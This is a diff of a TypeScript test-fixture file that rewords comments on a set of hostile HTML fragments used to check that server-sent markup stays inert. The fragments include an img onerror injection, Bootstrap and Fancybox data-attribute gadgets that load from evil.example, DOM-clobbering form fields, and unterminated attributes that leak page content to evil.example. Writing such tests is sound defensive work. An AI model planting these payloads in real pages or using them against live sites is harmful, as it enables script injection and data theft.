@@ -1,11 +1,11 @@
 /**
- * Fragments that a server should never send and one day may: a review, a name, a price that somebody has written markup into.
- * What would run calls `hit`; what would reach outside asks evil.example. None of them may do anything [EMB-02].
+ * Fragments that a server should never send but might: a review, a name or a price into which somebody has written markup. Code in
+ * them calls `hit`, and outside requests go to evil.example. None of them may have an effect [EMB-02].
  */
 export interface HostileFragment {
   readonly name: string;
   readonly html: string;
-  /** Swallows what stands behind it: it has to be the last one of an answer. */
+  /** Swallows everything behind it, so it has to be the last fragment of an answer. */
   readonly isOpen?: true;
 }
 
@@ -184,7 +184,7 @@ const picture = `<img src=x-broken: onerror=${hit}>`;
 const written = picture.replaceAll('<', String.raw`\u003c`);
 const inEntities = picture.replaceAll('<', '&lt;').replaceAll('>', '&gt;');
 
-/** Data that libraries of the template, Bootstrap 3.0.0 and Fancybox 3.5.7, take for orders when something is pressed. */
+/** Data attributes that the template's libraries, Bootstrap 3.0.0 and Fancybox 3.5.7, obey when an element is pressed. */
 export const gadgets: Readonly<Record<string, string>> = {
   'window of Bootstrap that loads another host': `<a data-toggle="modal" data-target="#gadget" href="${evil}/x.html">Х</a><div class="modal" id="gadget"></div>`,
   'window of Bootstrap that loads what it is told': `<button data-toggle="modal" data-target="#gadget2" data-remote="${evil}/x.html">Х</button><div class="modal" id="gadget2"></div>`,
@@ -236,7 +236,7 @@ export const gadgets: Readonly<Record<string, string>> = {
   'background that waits for a lazy loader': `<div class="lazy" data-src="${evil}/x.png" data-bg="${evil}/y.png">Х</div>`,
 };
 
-/** Fields take the names of their form's own methods, also of those by which a form is cleaned. */
+/** Fields named like methods of their form, including the methods that a cleaner uses. */
 export const clobbering: Readonly<Record<string, string>> = Object.fromEntries([
   ...[
     ...['localName', 'getAttribute', 'getAttributeNames', 'classList', 'matches', 'removeAttribute', 'hasAttribute', 'querySelector'],
@@ -255,7 +255,7 @@ export const clobbering: Readonly<Record<string, string>> = Object.fromEntries([
   ]),
 ]);
 
-/** What never ends: the rest of the answer becomes part of it. */
+/** Unterminated markup: the rest of the answer becomes part of it. */
 const open: Readonly<Record<string, string>> = {
   'attribute that never ends': `<img src="${evil}/?`,
   'attribute that never ends, in single quotes': `<a href='${evil}/?`,
